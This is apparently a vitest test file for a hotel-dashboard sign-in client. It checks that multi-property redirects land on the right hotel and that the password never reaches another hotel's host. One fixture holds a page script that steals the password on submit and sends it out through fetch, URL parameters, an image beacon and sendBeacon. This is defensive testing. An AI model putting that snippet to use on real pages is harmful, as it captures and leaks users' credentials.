/** Accounts with several hotels, and hosts that serve all of them: ours is read, no other one, and the password goes to no other one. */
import { beforeEach, describe, expect, it } from 'vitest';
import type { Visitor } from '../../../src/dashboard/visit/visitor.js';
import {
  HAS_SCRIPTS,
  hostOf,
  startHotelHosts,
  type AskedHost,
  type HotelHosts,
} from '../../support/hotel-hosts.js';
import { FORM, panelPage, redirectTo, type Given } from '../../support/small-panel.js';
import { MADE_UP, visitorOf } from '../../support/small-visitor.js';
import { chosen, THOROUGH } from '../../support/thorough.js';

const PATH = '/admin/pms/reservations/all';
const OURS = `https://${hostOf('riad-exemple')}`;
const LIST = `<h1>Choose a property</h1><ul><li><a href="https://${hostOf('villa-autre')}/admin">Villa Autre</a></li>
  <li><a href="${OURS}/admin">Riad Exemple</a></li></ul>`;

interface Case {
  name: string;
  /** Where the password leads to. */
  lands: string;
  answer?: (asked: AskedHost) => Given | null;
  /** Left out: it is read. */
  remedy?: RegExp;
  /** Another case of the default run meets it, too. */
  alone?: true;
}

const app = `https://${hostOf('app')}`;
const other = `https://${hostOf('villa-autre')}`;
/** What our own address answers to those who are signed in; null: the panel. */
const ours =
  (given: (path: string) => Given | null) =>
  ({ signedIn, host, path }: AskedHost): Given | null =>
    signedIn && host === 'riad-exemple' ? given(path) : null;
let chosenHotel = false;

const CASES: readonly Case[] = [
  { name: 'the hotel’s own panel', lands: `${OURS}/admin`, alone: true },
  {
    name: 'a choice of hotels at their addresses',
    lands: `${app}/properties`,
    answer: ({ signedIn, host }) => (signedIn && host === 'app' ? { body: LIST } : null),
    alone: true,
  },
  {
    name: 'a choice at our address that comes again until it is made, by keys',
    lands: '/admin/properties',
    answer: ours((path) => {
      if (path === '/admin/properties')
        return {
          body: `<h1>Hotels</h1><table><tr><td>villa-autre.hotelrunner.com</td><td><a href="/admin/properties/11/select">Open</a></td></tr>
            <tr><td>riad-exemple.hotelrunner.com</td><td><a href="/admin/properties/12/select">Open</a></td></tr></table>`,
        };
      chosenHotel ||= path === '/admin/properties/12/select';
      if (path === '/admin/properties/12/select') return redirectTo('/admin/welcome');
      return chosenHotel ? null : redirectTo('/admin/properties');
    }),
  },
  {
    name: 'a choice among hotels that are all others',
    lands: '/properties',
    answer: ours((path) =>
      path === '/properties'
        ? { body: LIST.replace(OURS, `https://${hostOf('dar-troisieme')}`) }
        : redirectTo('/properties'),
    ),
    remedy:
      /HOTELRUNNER_URL .*https:\/\/villa-autre\.hotelrunner\.com, https:\/\/dar-troisieme\.hotelrunner\.com/,
  },
  { name: 'another hotel’s panel, though ours is open', lands: `${other}/admin`, alone: true },
  {
    name: 'another hotel’s panel, always',
    lands: `${other}/admin`,
    answer: ours((path) => redirectTo(`${other}${path}`)),
    remedy: /set HOTELRUNNER_URL to it: https:\/\/villa-autre\.hotelrunner\.com/,
  },
  {
    name: 'the panel at the address of all hotels',
    lands: `${app}/admin`,
    answer: ours((path) => redirectTo(`${app}${path}`)),
    remedy: /set HOTELRUNNER_URL to it: https:\/\/app\.hotelrunner\.com/,
  },
];

const hosts: HotelHosts = await startHotelHosts();
const { visitor, store, gate } = visitorOf(OURS, {
  browser: hosts.browser,
  signInLimits: { formMs: 400, nothingMs: 900, settleMs: 300, answerMs: 4_000 },
});
const visitBy = (by: Visitor): Promise<unknown> =>
  by
    .visit(PATH, new AbortController().signal, ({ page }) => page.locator('#host').textContent())
    .catch((error: unknown) => error);
const posts = (): string[] => hosts.log.filter((line) => line.startsWith('POST'));
const panel = ({ host, path }: AskedHost): Given => ({
  body: panelPage(`<p id="host">${host}${path}</p>`).replaceAll('Riad Exemple', host),
});

beforeEach(async () => {
  chosenHotel = false;
  hosts.sessions.clear();
  hosts.log.length = hosts.bodies.length = 0;
  await store.forget();
  await store.forgetRejection();
});

describe.skipIf(!HAS_SCRIPTS)('signing in that ends at', () => {
  it.each(chosen(CASES))('$name', async ({ lands, answer, remedy }) => {
    hosts.answer = (asked) => {
      const own = answer?.(asked) ?? null;
      if (own !== null) return own;
      if (asked.path === '/login')
        return asked.method === 'POST' ? { ...redirectTo(lands), session: 'begin' } : { body: FORM };
      return asked.signedIn ? panel(asked) : redirectTo('/login');
    };
    for (let round = 0; round < (THOROUGH ? 2 : 1); round += 1) {
      const came = await visitBy(visitor);
      if (remedy === undefined) expect(came).toBe(`riad-exemple${PATH}`);
      else expect(came).toMatchObject({ code: 'WRONG_HOTEL', remedy: expect.stringMatching(remedy) });
    }
    expect(posts()).toEqual(['POST riad-exemple/login']);
    expect(hosts.log.filter((line) => /villa-autre|dar-troisieme/.test(line))).toEqual([]);
    expect(gate.mode).toBe('reading');
  });

  it.skipIf(!THOROUGH)(
    'the hotel’s own panel, where the settings name the address of all hotels',
    async () => {
      const { visitor: byApp } = visitorOf(app, { browser: hosts.browser });
      hosts.answer = (asked) => {
        if (asked.path === '/login')
          return asked.method === 'POST'
            ? { ...redirectTo(`${OURS}/admin`), session: 'begin' }
            : { body: FORM };
        if (!asked.signedIn) return redirectTo('/login');
        return asked.host === 'app' ? redirectTo(`${OURS}${asked.path}`) : panel(asked);
      };
      expect(await visitBy(byApp)).toBe(`riad-exemple${PATH}`);
      expect(posts()).toEqual(['POST app/login']);
    },
  );
});

/** What the sign-in page does with the password, and where it may arrive. */
const LEAKS: readonly {
  name: string;
  alone?: true;
  page: string;
  post?: Given;
  arrives: string[];
  code: string | null;
}[] = [
  {
    name: 'goes to the host on which all hotels sign in',
    alone: true,
    page: FORM.replace('"/login"', `"${app}/login"`),
    arrives: ['POST app/login'],
    code: null,
  },
  {
    name: 'would go to another hotel by the form',
    alone: true,
    page: FORM.replace('"/login"', `"${other}/login"`),
    arrives: [],
    code: 'ACTION_REQUIRED',
  },
  {
    name: 'would go to another hotel by a redirect that keeps it',
    page: FORM,
    post: { status: 307, headers: { location: `${other}/login` } },
    arrives: ['POST riad-exemple/login'],
    code: 'WRONG_HOTEL',
  },
  {
    name: 'would go to other addresses, by scripts of the page',
    page: `${FORM}<script>document.forms[0].addEventListener('submit', () => {
        const secret = document.forms[0][1].value;
        fetch('${other}/login', { method: 'POST', mode: 'no-cors', body: secret });
        fetch('/admin/notes', { method: 'POST', body: secret });
        fetch('/login?next=' + secret);
        new Image().src = '/login?a=' + encodeURIComponent(secret);
        navigator.sendBeacon('/session', secret);
      })</script>`,
    arrives: ['POST riad-exemple/login'],
    code: null,
  },
  {
    name: 'would be posted again and again',
    page: `${FORM}<script>document.forms[0].addEventListener('submit', (event) => {
        event.preventDefault();
        for (let i = 0; i < 5; i += 1) fetch('/login', { method: 'POST', body: new URLSearchParams(new FormData(document.forms[0])) })
          .then((answer) => answer.ok && location.assign('${PATH}'), () => 0);
      })</script>`,
    arrives: ['POST riad-exemple/login'],
    code: null,
  },
];

describe.skipIf(!HAS_SCRIPTS)('the password', () => {
  it.each(chosen(LEAKS))('$name', async ({ page, post, arrives, code }) => {
    hosts.answer = (asked) => {
      if (asked.path.startsWith('/login') && asked.method === 'POST')
        return post ?? { ...redirectTo(`${OURS}${PATH}`), session: 'begin' };
      if (asked.path.startsWith('/login')) return { body: page };
      return asked.signedIn ? panel(asked) : redirectTo('/login');
    };
    const came = await visitBy(visitor);
    if (code === null) expect(came).toBe(`riad-exemple${PATH}`);
    else expect(came).toMatchObject({ code });
    const carried = hosts.log.filter(
      (line, at) => line.includes(MADE_UP.password) || hosts.bodies[at]?.includes(MADE_UP.password),
    );
    expect(carried).toEqual(arrives);
  });
});
